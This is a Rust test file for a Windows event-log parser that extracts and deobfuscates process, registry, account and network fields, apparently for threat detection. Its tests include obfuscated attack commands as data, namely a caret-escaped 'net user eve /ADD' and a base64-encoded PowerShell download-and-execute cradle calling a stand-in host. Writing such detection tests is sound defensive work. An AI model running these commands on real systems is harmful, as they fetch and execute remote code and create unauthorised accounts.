use super::*;
use crate::fields;
use serde_json::json;

fn shown(value: &Value<'_>) -> String {
    match value {
        Value::Absent => "<NA>".into(),
        Value::Text(text) => String::from_utf8_lossy(text).into_owned(),
        Value::Number(number) => number.to_string(),
        Value::Address(address) => address.to_string(),
        other => format!("{other:?}"),
    }
}

fn check(field: &str, document: &Json) -> String {
    let (name, argument) = match field.split_once('[') {
        Some((name, rest)) => (name, Argument::Key(rest.trim_end_matches(']').into())),
        None => (field, Argument::None),
    };
    let row = fields::find(name).expect(name);
    shown(&value(row.field, &argument, document))
}

/// `win.command` of a command line.
fn command(text: &str) -> String {
    check("win.command", &json!({"data": {"CommandLine": text}}))
}

#[test]
fn a_process_is_told_by_two_logs() {
    let sysmon = json!({"event_id": 1, "provider": "Microsoft-Windows-Sysmon", "user": "C\\a", "data": {
        "Image": "C:\\a.exe", "CommandLine": "a b", "ParentImage": "C:\\p.exe", "ParentCommandLine": "p", "OriginalFileName": "A.EXE"}});
    let security = json!({"event_id": 4688, "channel": "Security", "data": {
        "NewProcessName": "C:\\a.exe", "CommandLine": "a b", "ParentProcessName": "C:\\p.exe"}});
    for document in [&sysmon, &security] {
        assert_eq!(windows_kind(document), EventKind::WindowsProcess);
        assert_eq!(check("win.process.image", document), "C:\\a.exe");
        assert_eq!(check("win.process.command_line", document), "a b");
        assert_eq!(check("win.process.parent_image", document), "C:\\p.exe");
    }
    assert_eq!(check("win.process.original_file_name", &sysmon), "A.EXE");
    assert_eq!(check("win.process.original_file_name", &security), "<NA>");
    assert_eq!(check("win.user", &sysmon), "C\\a");
    assert_eq!(check("win.event_id", &sysmon), "1");
    assert_eq!(check("win.data[commandline]", &sysmon), "a b");
    assert_eq!(check("win.data[None]", &sysmon), "<NA>");
}

#[test]
fn the_registry_is_told_by_two_logs() {
    let sysmon = json!({"event_id": 13, "channel": "Microsoft-Windows-Sysmon/Operational", "data": {"EventType": "SetValue",
        "TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "Details": "DWORD (0x00000d3d)"}});
    let security = json!({"event_id": 4657, "provider": "Microsoft-Windows-Security-Auditing", "data": {
        "ObjectName": "\\REGISTRY\\MACHINE\\System\\ControlSet001\\Control\\Terminal Server", "ObjectValueName": "fDenyTSConnections", "NewValue": "3389"}});
    for document in [&sysmon, &security] {
        assert_eq!(windows_kind(document), EventKind::WindowsRegistry);
        assert_eq!(
            check("win.registry.key", document),
            "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server"
        );
        assert_eq!(check("win.registry.value", document), "fDenyTSConnections");
        assert_eq!(check("win.registry.details", document), "3389");
    }
    let key = json!({"data": {"EventType": "CreateKey", "TargetObject": "HKU\\S-1\\Software\\X"}});
    assert_eq!(check("win.registry.key", &key), "HKU\\S-1\\Software\\X");
    assert_eq!(check("win.registry.value", &key), "<NA>");
    let text = json!({"data": {"Details": "C:\\x.exe"}});
    assert_eq!(check("win.registry.details", &text), "C:\\x.exe");
}

#[test]
fn accounts_and_groups() {
    let created = json!({"event_id": 4720, "channel": "Security", "data": {"TargetUserName": "eve", "SubjectUserName": "bob", "SubjectDomainName": "CORP"}});
    assert_eq!(windows_kind(&created), EventKind::WindowsAccount);
    assert_eq!(check("win.account.target", &created), "eve");
    assert_eq!(check("win.account.subject", &created), "CORP\\bob");
    let member = json!({"event_id": 4732, "channel": "Security", "data": {"MemberName": "-", "MemberSid": "S-1-5-21", "TargetUserName": "Administrators"}});
    assert_eq!(check("win.account.target", &member), "S-1-5-21");
    assert_eq!(check("win.account.group", &member), "Administrators");
}

#[test]
fn kinds_are_told_by_who_wrote_the_record() {
    let kind = |id: i64, channel: &str| windows_kind(&json!({"event_id": id, "channel": channel}));
    assert_eq!(
        kind(4104, "Microsoft-Windows-PowerShell/Operational"),
        EventKind::WindowsScript
    );
    assert_eq!(kind(800, "Windows PowerShell"), EventKind::WindowsScript);
    assert_eq!(
        kind(3, "Microsoft-Windows-Sysmon/Operational"),
        EventKind::WindowsNetwork
    );
    assert_eq!(
        kind(11, "Microsoft-Windows-Sysmon/Operational"),
        EventKind::WindowsFile
    );
    assert_eq!(kind(7045, "System"), EventKind::WindowsOther);
    assert_eq!(kind(1, "System"), EventKind::WindowsOther);
    assert_eq!(kind(5156, "Security"), EventKind::WindowsNetwork);
    let network = json!({"event_id": 3, "data": {"DestinationIp": "10.0.0.1", "DestinationPort": "3389", "DestinationHostname": "-"}});
    assert_eq!(windows_kind(&network), EventKind::WindowsNetwork);
    assert_eq!(check("win.network.destination_ip", &network), "10.0.0.1");
    assert_eq!(check("win.network.port", &network), "3389");
    assert_eq!(check("win.network.host", &network), "<NA>");
    assert_eq!(windows_kind(&json!({})), EventKind::WindowsOther);
}

#[test]
fn commands_are_read_as_the_interpreter_does() {
    assert_eq!(command("n^e^t  \"us\"er eve /ADD"), "net user eve /add");
    assert_eq!(
        command("(New-Object ('Net.'+'Web' + 'Client'))"),
        "(new-object (net.webclient))"
    );
    assert_eq!(command("I`E`X $a+$b"), "iex $a+$b");
    assert_eq!(command(""), "<NA>");
    let service = json!({"event_id": 7045, "data": {"ImagePath": "%COMSPEC% /c net user"}});
    assert_eq!(check("win.command", &service), "%comspec% /c net user");
}

#[test]
fn encoded_commands_are_decoded() {
    // `IEX (New-Object Net.WebClient).DownloadString('http://x/a')` in UTF-16.
    let plain = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    let wide: Vec<u8> = plain.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = encode(&wide);
    let line = command(&format!("powershell -nop -enc {encoded}"));
    assert!(
        line.ends_with("\niex (new-object net.webclient).downloadstring(http://x/a)"),
        "{line}"
    );
    let inner = encode(format!("powershell -enc {encoded}").as_bytes());
    assert!(command(&format!("x('{inner}')")).contains("net.webclient"));
    assert_eq!(
        command("powershell Get-ChildItemAndMoreWords1"),
        "powershell get-childitemandmorewords1"
    );
    // Endless nesting ends.
    let mut nested = "a b".to_owned();
    for _ in 0..10 {
        nested = encode(format!("echo {nested}").as_bytes());
    }
    assert!(command(&nested).len() < 10_000);
}

fn encode(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|chunk| {
            let mut group = [0_u8; 4];
            group[1..=chunk.len()].copy_from_slice(chunk);
            let number = u32::from_be_bytes(group);
            (0..4).map(move |place| {
                if place > chunk.len() {
                    return '=';
                }
                char::from(DIGITS[(number >> (18 - 6 * place) & 63) as usize])
            })
        })
        .collect()
}
